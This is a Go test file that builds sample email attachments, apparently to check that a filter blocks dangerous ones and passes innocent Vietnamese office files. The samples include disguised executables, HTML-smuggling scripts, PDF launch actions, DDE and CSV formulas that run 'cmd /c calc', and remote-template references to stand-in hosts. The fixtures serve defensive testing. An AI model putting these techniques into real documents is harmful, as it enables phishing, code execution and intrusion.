package main

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// dangerousNames are names that say enough, whatever is in the file.
func dangerousNames() []attached {
	var all []attached
	for kind, names := range map[string][]string{
		"executable": {"chay.exe", "CHAY.EXE", "man-hinh.scr", "chay.pif", "bang.cpl", "chay.com", "cai-dat.msi", "hoa-don.jar", "ung-dung.apk", "thu-vien.dll", "chay.exe.",
			"chay.exe ", "chay.ｅｘｅ", "cau-hinh.msc", "goi.deb", "goi.pkg", "ung-dung.appx"},
		"script":               {"xem.js", "xem.jse", "xem.vbs", "xem.vbe", "xem.wsf", "xem.wsh", "xem.hta", "xem.ps1", "xem.bat", "xem.cmd", "xem.sct", "xem.pyw", "xem.js.gz"},
		"shortcut":             {"thu.lnk", "thu.url", "thu.desktop", "thu.scf", "thu.library-ms", "thu.settingcontent-ms", "thu.appref-ms", "may.rdp", "tim.search-ms"},
		"disk-image":           {"dia.iso", "dia.img", "dia.vhd", "dia.vhdx", "dia.dmg"},
		"add-in":               {"ham.xll", "mau.wll"},
		"help":                 {"huong-dan.chm"},
		"query":                {"gia.iqy", "bang.slk"},
		"settings":             {"may.reg", "chu-de.theme"},
		"double-extension":     {"bao-cao.pdf.exe", "Báo cáo quý III.docx.js", "anh.jpg .scr", "hoa-don.xlsx.hta", "ho-so.pdf.lnk", "ke-hoach.doc.iso"},
		"right-to-left":        {"cong-van\u202exslx.exe", "cong-van\u202efdp.scr", "\u202ecod.docx"},
		"invisible-characters": {"bao-cao.e\u200bxe", "bao-cao.\u2060js"},
		"padded-name":          {"bao-cao.pdf\u3164\u3164\u3164\u3164.exe", "bao-cao.pdf___________.js"},
		"stream-name":          {"chay.exe::$DATA", "chay.exe:thu.txt"},
		"class-id":             {"thu.{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}"},
	} {
		for _, name := range names {
			all = append(all, attached{name, []byte("\x01\x02\x03\x80\xff khong la gi ca"), kind})
		}
	}
	slices.SortFunc(all, func(a, b attached) int { return strings.Compare(a.name, b.name) })
	return all
}

// dangerousFiles are told by what is in them.
func dangerousFiles(t testing.TB) []attached {
	exe := string(windowsProgram())
	iso := string(withMark(0x8001, "CD001", 0x9000))
	lnk := "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + strings.Repeat("\x00", 60)
	elf := "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 8) + "\x02\x00\x3e\x00" + strings.Repeat("\x00", 100)
	zipData := base64.StdEncoding.EncodeToString(packedFiles(t, "xem.js", strings.Repeat("var a;", 40)))
	return []attached{
		{"bao-cao.pdf", []byte(exe), "disguised"},
		{"bao-cao", []byte(exe), "executable"},
		{"ban-do.dat", []byte(elf), "executable"},
		{"may-mac.bin", []byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01" + strings.Repeat("\x00", 100)), "executable"},
		{"anh.png", []byte(lnk), "disguised"},
		{"tep.dat", []byte(iso), "disk-image"},
		{"tep.bin", withMark(0x8001+2048, "NSR02", 0xa000), "disk-image"},
		{"tai-lieu.dat", []byte("ITSF\x03\x00\x00\x00\x60\x00\x00\x00" + strings.Repeat("\x00", 60)), "help"},
		{"goi.dat", []byte(compound(t, "installer.bin")), "executable"},
		{"bao-cao.docx", packedFiles(t, "a.txt", "khong phai tai lieu"), "disguised"},
		{"anh.jpg", []byte("7z\xbc\xaf\x27\x1c\x00\x04" + strings.Repeat("\x00", 60)), "disguised"},
		{"tu-giai-nen.dat", append([]byte(exe), packedFiles(t, "a.txt", "x")...), "executable"},
		{"ho-so-1.zip", packedFiles(t, "ho-so/doc.txt", "x", "ho-so/xem.vbs", "x"), "script"},
		{"ho-so-2.zip", packedFiles(t, "bao-cao.pdf             .exe", "x"), "padded-name"},
		{"ho-so-3.zip", packedFiles(t, "anh\u202egpj.exe", "x"), "right-to-left"},
		{"ho-so-4.zip", packedFiles(t, "thu.docx", exe), "disguised"},
		{"ho-so-5.zip", packedFiles(t, "trong.zip", string(packedFiles(t, "xem.lnk", "x"))), "shortcut"},
		{"ho-so-6.zip", lockedZip(t, "hoa-don.exe"), "executable"},
		{"ho-so-7.zip", packedFiles(t, `..\..\xem.hta`, "x"), "script"},
		{"so-tay-1.one", notebook(exe), "executable"},
		{"so-tay-2.one", notebook("\x89PNG\r\n\x1a\n"+strings.Repeat("\x00", 40), "<job><script>x</script></job>"), "embedded-file"},
		{"hoa-don-1.html", scriptPage(`var d="` + zipData + `";var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);a.href=URL.createObjectURL(b);a.download="x.zip";a.click()`), "smuggling"},
		{"hoa-don-2.html", scriptPage(`navigator.msSaveOrOpenBlob(new Blob([x]), "x.iso")`), "smuggling"},
		{"hoa-don-3.html", []byte(`<html><body><a download="x.zip" href="data:application/zip;base64,` + zipData + `">Tải về</a>`), "smuggling"},
		{"hoa-don-4.html", []byte(`<html><body><iframe src="data:text/html;base64,` + zipData + `"></iframe>`), "smuggling"},
		{"so-do-1.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://example.test"</script></svg>`), "svg-script"},
		{"so-do-2.svg", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"><text>Sơ đồ</text></svg>`), "svg-script"},
		{"to-khai-1.pdf", pdfWith("/OpenAction <</S /Launch /F (cmd.exe)>>"), "launch"},
		{"to-khai-2.pdf", pdfWith("/OpenAction <</S /L#61unch /F (cmd.exe)>>"), "launch"},
	}
}

// dangerousDocuments act when they are opened.
func dangerousDocuments(t testing.TB) []attached {
	open, button := compound(t, "vba-open.bin"), compound(t, "vba-button.bin")
	word := func(pairs ...string) []byte { return office(t, "word/document.xml", pairs...) }
	sheet := func(pairs ...string) []byte { return office(t, "xl/workbook.xml", pairs...) }
	settings := "word/_rels/settings.xml.rels"
	return []attached{
		{"mo-1.docm", word("word/vbaProject.bin", open), "macro-autorun"},
		{"mo-2.docx", word("word/vbaProject.bin", open), "macro-autorun"},
		{"mo-3.xlsm", sheet("xl/vbaProject.bin", open), "macro-autorun"},
		{"mo-4.zip", zipped(t, "a.docm", word("word/vbaProject.bin", open)), "macro-autorun"},
		{"mo-5.xlsm", packedFiles(t, "[Content_Types].xml", "<Types/>", "xl/workbook.xml", `<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>`,
			"xl/macrosheets/sheet1.xml", `<xm:macrosheet xmlns:xm="x"/>`), "macro-autorun"},
		{"lenh-1.docx", field(t, `DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`), "dde"},
		{"lenh-2.docx", field(t, `DDE cmd "/k calc"`), "dde"},
		{"lenh-3.xlsx", sheet("xl/worksheets/sheet1.xml", `<worksheet><sheetData><row><c><f>cmd|'/c calc'!A0</f></c></row></sheetData></worksheet>`), "dde"},
		{"lenh-4.csv", []byte("stt,ten\n1,=cmd|'/c calc'!A0\n"), "dde"},
		{"xa-1.docx", word(settings, outside("attachedTemplate", "https://example.test/mau.dotm")), "remote-template"},
		{"xa-2.docx", word(settings, outside("attachedTemplate", `\\203.0.113.7\mau\a.dotm`)), "remote-template"},
		{"xa-3.docx", word("word/_rels/document.xml.rels", outside("oleObject", "mhtml:https://example.test/a!x-usc:https://example.test/a")), "remote-template"},
		{"xa-4.docx", word("word/_rels/webSettings.xml.rels", outside("frame", "file://203.0.113.7/a.html")), "remote-template"},
		{"xa-5.rtf", []byte(`{\rtf1\ansi{\*\template https://example.test/a.dotm}Nội dung}`), "remote-template"},
		{"xa-6.docx", word("word/_rels/document.xml.rels", outside("image", `\\203.0.113.7\a.png`)), "remote-template"},
		{"xa-7.docx", field(t, `INCLUDEPICTURE "\\\\203.0.113.7\\a.png" \d`), "remote-template"},
		{"xa-8.docx", field(t, `INCLUDETEXT "https://example.test/a.docx"`), "remote-template"},
		{"xa-9.rtf", []byte(`{\rtf1{\field{\*\fldinst INCLUDETEXT "https://example.test/a.rtf"}{\fldrslt x}}}`), "remote-template"},
		{"xa-10.xlsx", sheet("customUI/customUI.xml", `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="https://example.test/a.xlam!x"/>`), "remote-template"},
		{"xa-11.xlsx", sheet("xl/connections.xml", `<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="https://example.test/a"/></connection></connections>`), "remote-template"},
		{"xa-12.pdf", pdfWith(`/OpenAction <</S /GoToR /F (\\\\203.0.113.7\\a.pdf) /D [0 /Fit]>>`), "remote-template"},
		{"xa-13.html", []byte(`<html><body><p>Hóa đơn<img src="file://203.0.113.7/a.png">`), "remote-template"},
		{"xa-14.html", []byte(`<html><head><meta http-equiv=refresh content="0; url=search-ms:query=a&crumb=location:x">`), "remote-template"},
		{"lenh-5.docx", word("word/_rels/document.xml.rels", outside("hyperlink", "ms-msdt:/id PCWDiagnostic")), "dde"},
		{"lich-1.ics", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;FILENAME=xem.js;ENCODING=BASE64;VALUE=BINARY:dmFyIGE7\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), "script"},
		{"lich-2.ics", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;FILENAME=anh.jpg;ENCODING=BASE64;VALUE=BINARY:" + base64.StdEncoding.EncodeToString(windowsProgram()) +
			"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), "disguised"},
		{"goi-1.docx", word("word/embeddings/oleObject1.bin", compound(t, "package-script.bin")), "script"},
		{"goi-2.docx", word("word/embeddings/oleObject1.bin", string(windowsProgram())), "executable"},
		{"goi-3.xlsm", sheet("xl/vbaProject.bin", button, "xl/embeddings/oleObject1.bin", compound(t, "package-script.bin")), "script"},
	}
}

// innocentAttachments are what people send.
func innocentAttachments(t testing.TB) []attached {
	t.Helper()
	var all []attached
	clean := pageFiles(t, "clean")
	for kind, names := range map[string][]string{
		"pdf":  {"QĐ 12.3.2026.pdf", "CV_gui_Cuc.signed.pdf", "Nghị quyết 57-NQ-TW.PDF", nfd("Quyết định phê duyệt.pdf"), "tep.pdf\u200e", "\u202acong-van.pdf\u202c", "Họp 14:30.pdf"},
		"docx": {"Báo cáo v1.2.docx", nfd("Tờ trình số 3.2026.docx"), "Báo cáo  .docx", "Re: Báo cáo.docx", "Tep.docx.", "bao-cao.final.v2.docx", "van\u00adban.docx"},
		"doc":  {"cong-van.doc", "Biên bản.DOC", "Biểu mẫu 1.3.doc"},
		"xlsx": {"bang.xlsx", "Số liệu 2026.11.24.xlsx", "bang.xls"},
		"xls":  {"bang-cu.xls", "Tổng hợp.XLS"},
		"pptx": {"trinh-bay.pptx"},
		"odt":  {"van-ban.odt", "van-ban.docx.odt"},
		"ods":  {"bang.ods"},
		"odp":  {"trinh-bay.odp"},
		"rtf":  {"van-ban.rtf", "van-ban.doc.rtf", "van-ban-rtf.doc"},
		"html": {"trang.html", "ban-tin.htm", "ATT00001.htm", "bang-xuat-ra.xls"},
		"txt":  {"ghi-chu.txt", "doc-toi", "www.monre.txt"},
	} {
		for _, name := range names {
			all = append(all, attached{name: name, file: clean[kind]})
		}
	}
	for _, name := range []string{"letter.doc", "sheet.xls", "slides.ppt", "letter.pdf", "packed.pdf"} {
		b, err := os.ReadFile(filepath.Join("..", "..", "filter", "extract", "testdata", "worker", name))
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, attached{name: name, file: b})
	}
	png := "\x89PNG\r\n\x1a\n" + strings.Repeat("\x00", 60)
	text := func(name, file string) { all = append(all, attached{name: name, file: []byte(file)}) }
	text("anh.png", png)
	text("Screenshot 2026-01-01 at 9.41.00\u202fAM.png", png)
	text("\u200eWhatsApp Image 2026-01-01.png", png)
	text("❤\ufe0f.png", png)
	text("👨\u200d👩\u200d👧.jpg", png)
	text("anh.jpg", "\xff\xd8\xff\xe0\x00\x10JFIF"+strings.Repeat("\x00", 60))
	text("anh.gif", "GIF89a"+strings.Repeat("\x00", 60))
	text("anh.tif", "II*\x00"+strings.Repeat("\x00", 60))
	text("anh-vien-tham.img", "EHFA_HEADER_TAG\x00"+strings.Repeat("\x00", 60))
	text("so-do.svg", `<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.test"><path d="M0 0"/></a><text>Sơ đồ</text></svg>`)
	text("lich.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Họp\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
	text("lich-anh.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;FILENAME=anh.png;ENCODING=BASE64;VALUE=BINARY:"+base64.StdEncoding.EncodeToString([]byte(png))+"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
	text("muc-luc.pdf", string(pdfWith("/OpenAction <</S /GoToR /F (chuong-2.pdf) /D [0 /Fit]>>")))
	text("bieu-mau.pdf", string(pdfWith("/OpenAction <</S /URI /URI (https://dichvucong.gov.vn/a)>>")))
	text("trang-luu.html", `<html><body><img src="//cdn.example.test/a.png"><img src="file:///C:/anh/a.png"><a href="file://fs.monre.gov.vn/chung">Thư mục chung</a>`)
	text("danh-ba.vcf", "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Nguyễn Văn An\r\nEND:VCARD\r\n")
	text("thu.eml", "From: <a@example.com>\r\nTo: <b@example.com>\r\nSubject: x\r\nMessage-ID: <1@example.com>\r\n\r\nNoi dung\r\n")
	text("so-lieu.csv", "ngay;gia tri\n24.11.2026;-5|x!\n=A1+B2;1\n")
	text("so-lieu.json", `{"a": 1}`)
	text("hoa-don.xml", `<?xml version="1.0"?><HDon><script>Latn</script></HDon>`)
	text("smime.p7s", "0\x82\x01\x00\x06\x09*\x86H\x86\xf7\x0d\x01\x07\x02\xa0"+strings.Repeat("\x01", 200))
	text("chu-ky.asc", "-----BEGIN PGP SIGNATURE-----\n\niQ==\n-----END PGP SIGNATURE-----\n")
	text("chung-thu.cer", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
	text("MZ.txt", "MZ là ký hiệu của đơn vị.\nKính gửi quý cơ quan\n")
	text("ban-do.dwg", "AC1027"+strings.Repeat("\x00", 60))
	text("ban-do.shp", "\x00\x00\x27\x0a"+strings.Repeat("\x00", 60))
	text("du-lieu.nc", "CDF\x01"+strings.Repeat("\x00", 60))
	text("du-lieu.mat", "MATLAB 5.0 MAT-file, Platform: PCWIN64")
	text("nhac.mp3", "ID3\x03\x00"+strings.Repeat("\x00", 60))
	text("phim.mp4", "\x00\x00\x00\x18ftypmp42"+strings.Repeat("\x00", 60))
	text("bai-giang.webp", "RIFF\x24\x00\x00\x00WEBPVP8 "+strings.Repeat("\x00", 60))
	text("mach.vhd", "library ieee;\nentity cong is end;\n")
	text("chu-thich.srt", "1\n00:00:01,000 --> 00:00:02,000\nXin chào\n")
	text("Phụ lục 1. Js", "van ban")
	text("tin-tuc.html", string(scriptPage(`window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)};document.write(unescape("%3Cscript src='//example.test/ga.js'%3E%3C/script%3E"))`)))
	text("tin-tuc-2.html", `<html><head><script type="application/ld+json">{"@type":"EmailMessage"}</script></head><body><img src="data:image/png;base64,iVBORw0KGgo=">`)
	text("bieu-do.html", string(scriptPage(strings.Repeat("function f(a,b){return a+b};", 5000)+`new Blob([atob(x)]);URL.createObjectURL(b);a.download="x"`)))
	zips := map[string][]byte{
		"ho-so.zip":           packedFiles(t, "Kế hoạch 2026.docx", string(clean["docx"]), "Số liệu v1.2.xlsx", string(clean["xlsx"]), "ảnh/anh.png", png),
		"ho-so.2026.zip":      packedFiles(t, nfd("Tờ trình.pdf"), string(clean["pdf"]), "doc.txt", "x", "__MACOSX/._a.pdf", "x"),
		"sach.epub":           packedFiles(t, "mimetype", "application/epub+zip", "META-INF/container.xml", "<container/>", "OEBPS/a.js", "var a;"),
		"khoa.zip":            lockedZip(t, "Danh sách.xlsx"),
		"lien-ket.docx":       office(t, "word/document.xml", "word/_rels/document.xml.rels", outside("hyperlink", "https://example.test/a.exe")),
		"mau-trong-may.docx":  office(t, "word/document.xml", "word/_rels/settings.xml.rels", outside("attachedTemplate", `file:///C:\Users\an\AppData\Roaming\Microsoft\Templates\Normal.dotm`)),
		"goi-ghi-chu.docx":    office(t, "word/document.xml", "word/embeddings/oleObject1.bin", compound(t, "package-text.bin")),
		"bang-lien-ket.xlsx":  office(t, "xl/workbook.xml", "xl/externalLinks/_rels/externalLink1.xml.rels", outside("externalLinkPath", "file:///C:/so-lieu/2025.xlsx")),
		"anh-trong-mang.docx": office(t, "word/document.xml", "word/_rels/document.xml.rels", outside("image", `\\may-chu\anh\a.png`)),
		"anh-tren-mang.docx":  office(t, "word/document.xml", "word/_rels/document.xml.rels", outside("image", "https://example.test/logo.png")),
		"nut-lenh.xlsx":       office(t, "xl/workbook.xml", "customUI/customUI.xml", `<customUI onLoad="NapRibbon" xmlns="http://schemas.microsoft.com/office/2006/01/customui"/>`),
		"truy-van.xlsx": office(t, "xl/workbook.xml", "xl/connections.xml", `<connections><connection id="1" type="5" refreshOnLoad="1"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$"/></connection>`+
			`<connection id="2" type="4"><webPr url="https://example.test/ty-gia"/></connection></connections>`),
		"so-tay.one": notebook(png, string(clean["pdf"])),
	}
	for name, file := range zips {
		all = append(all, attached{name: name, file: file})
	}
	slices.SortFunc(all, func(a, b attached) int { return strings.Compare(a.name, b.name) })
	return all
}
